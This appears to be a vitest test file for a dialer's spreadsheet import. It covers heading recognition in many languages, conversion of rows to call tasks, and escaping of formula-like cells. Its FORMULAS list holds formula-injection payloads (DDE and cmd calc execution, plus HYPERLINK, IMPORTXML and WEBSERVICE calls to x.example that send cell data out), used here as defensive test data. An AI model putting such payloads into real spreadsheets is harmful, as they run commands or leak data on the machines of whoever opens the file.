import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import { type ColumnUse, columnsOf, type SaidColumns } from '../../src/dialer/sheet-columns.ts'
import { cellText, harmlessCell, isShortened, taskOf } from '../../src/dialer/sheet-tasks.ts'
import { columnLetter } from '../../src/kernel/column-letter.ts'

const FIELDS = [
  { id: 5, name: 'Amount' },
  { id: 6, name: 'Sag' },
]
const guessed = (headings: readonly string[], said: SaidColumns = new Map()) =>
  columnsOf([headings], FIELDS, said).uses.map(({ as }) => as)

describe('columns are recognized by their headings', () => {
  test.each([
    ['Name', 'Phone', 'Customer no.', 'Case number'],
    ['callReceiverName', 'callNumberList', 'extCustId', 'systemLookupCode'],
    ['Navn', 'Tlf.nr.', 'Kundenr.', 'Sagsnr.'],
    ['SKYLDNER', 'MOBIL', 'SKYLDNERNR', 'SAGSNUMMER'],
    ['Namn', 'Telefonnummer', 'Kundnummer', 'Ärendenummer'],
    ['Nimi', 'Telefon', 'Kliendi number', 'Juhtumi number'],
    ['Koko nimi', 'Puhelin', 'Asiakasnumero', 'Asianumero'],
    ['Kundenname', 'Handy', 'Kundennummer', 'Aktenzeichen'],
    ['Klients', 'Tālrunis', 'Klienta numurs', 'Lietas numurs'],
    ['Vardas pavardė', 'Telefonas', 'Kliento nr.', 'Bylos nr.'],
  ])('%s, %s, %s, %s', (...headings) => {
    expect(guessed(headings)).toEqual(['name', 'number', 'customer', 'caseNumber'])
  })

  test('several numbers, first and last name, an information field; the rest is ignored', () => {
    const headings = ['Last name', 'First name', 'Mobile phone 2', 'Phone 1', 'amount', 'Phone type', 'Fax', 'Colour']
    const uses = ['lastName', 'firstName', 'number', 'number', 'property', 'nothing', 'nothing', 'nothing']
    expect(guessed(headings)).toEqual(uses)
  })

  test('a whole name wins over its parts, the first case number over a second one, which may be a field', () => {
    expect(guessed(['Fornavn', 'Navn', 'Sagsnr', 'Sag'])).toEqual(['nothing', 'name', 'caseNumber', 'property'])
  })

  test('an explicit column wins, by heading or letter, and no other column is guessed for it', () => {
    const said = new Map<string, ColumnUse>([
      ['Fri tekst', { as: 'name' }],
      ['c', { as: 'number' }],
      ['D', { as: 'property', field: 5, addToName: true }],
    ])
    const headings = ['Navn', 'fri_tekst', 'Nr', 'Beløb', 'Amount', 'Tlf']
    expect(guessed(headings, said)).toEqual(['nothing', 'name', 'number', 'property', 'nothing', 'nothing'])
  })

  test('the row of headings is found below a title', () => {
    const rows = [['List of 1 March'], ['Secret'], ['Name', 'Phone'], ['Bo', '+4526000001']]
    expect(columnsOf(rows, [], new Map())).toMatchObject({ headingsAt: 2, unknown: [] })
    expect(columnsOf(rows, [], new Map([['List of 1 March', { as: 'name' }]]))).toMatchObject({ headingsAt: 0 })
    expect(columnsOf(rows, [], new Map([['Nobody', { as: 'name' }]]))).toMatchObject({ unknown: ['Nobody'] })
  })

  test('columns have letters as in spreadsheet programs', () => {
    expect([0, 25, 26, 701, 702].map(columnLetter)).toEqual(['A', 'Z', 'AA', 'ZZ', 'AAA'])
  })
})

describe('a row', () => {
  const uses = columnsOf(
    [['First name', 'Last name', 'Phone', 'Mobile', 'Customer id', 'Amount']],
    FIELDS,
    new Map(),
  ).uses

  test('becomes a call task; several numbers in one cell are split, and keep zeros and signs', () => {
    const cells = ['Bo', 'Berg', '26 00 00 01; +45 26/00/00/02', '0045 26000003 / 26000004', '007', '="0100"']
    expect(taskOf(cells, uses)).toEqual({
      receiverName: 'Bo Berg',
      numbers: ['26 00 00 01', '+45 26/00/00/02', '0045 26000003', '26000004'],
      externalCustomer: '007',
      externalCaseNumber: undefined,
      properties: [{ field: 5, value: '0100', addToName: false }],
    })
  })

  test('reports a blank required cell as missing, as in the API', () => {
    expect(taskOf([], uses)).toEqual({
      receiverName: '',
      numbers: [],
      externalCustomer: undefined,
      externalCaseNumber: undefined,
      properties: undefined,
    })
  })

  test('shows a number that lost its digits', () => {
    const lost = ['4.57E+09', '4,57E+09', '4.57e9', '+4.57E+09']
    expect(lost.map(isShortened)).toEqual(lost.map(() => true))
    expect(['4570001001', 'E1', '+4526000001', ''].map(isShortened)).toEqual([false, false, false, false])
  })
})

/** G22: what a spreadsheet program might count with, by a sign before, in every wide form, with blanks, by commands. */
const FORMULAS = [
  '=',
  '+',
  '-',
  '@',
  '\t=',
  '\r=',
  '\n=',
  ' =',
  '\0=',
  '\u00a0=',
  '＝',
  '＋',
  '－',
  '＠',
  '=+',
  '-@',
].flatMap((sign) =>
  [
    ...['1+1', 'SUM(1,2)', "cmd|'/C calc'!A0", 'HYPERLINK("http://x.example?"&A1,"Click")'],
    ...['IMPORTXML("http://x.example","//a")', 'WEBSERVICE("http://x.example")', 'DDE("cmd";"/C calc";"x")'],
  ].map((rest) => sign + rest),
)

describe('a cell of ours', () => {
  test('is no formula, and reads back unchanged (F-J3, G22)', () => {
    expect(FORMULAS.length).toBeGreaterThanOrEqual(100)
    for (const formula of FORMULAS) {
      const cell = harmlessCell(formula)
      expect(cell).toBe(`'${formula}`)
      expect(cellText(cell)).toBe(formula)
    }
  })

  test('is changed only where it looks like a formula, and loses nothing', () => {
    expect(['Bo', '26000001', '0017', "O'Hara", ''].map(harmlessCell)).toEqual(['Bo', '26000001', '0017', "O'Hara", ''])
    const sign = fc.constantFrom("'", '=', '+', '-', '@', '\t', '\r', ' ', '"', '1', 'x')
    fc.assert(
      fc.property(fc.string({ unit: sign, maxLength: 6 }), (text) => {
        const plain = cellText(text)
        expect(cellText(harmlessCell(plain))).toBe(plain)
      }),
    )
  })
})
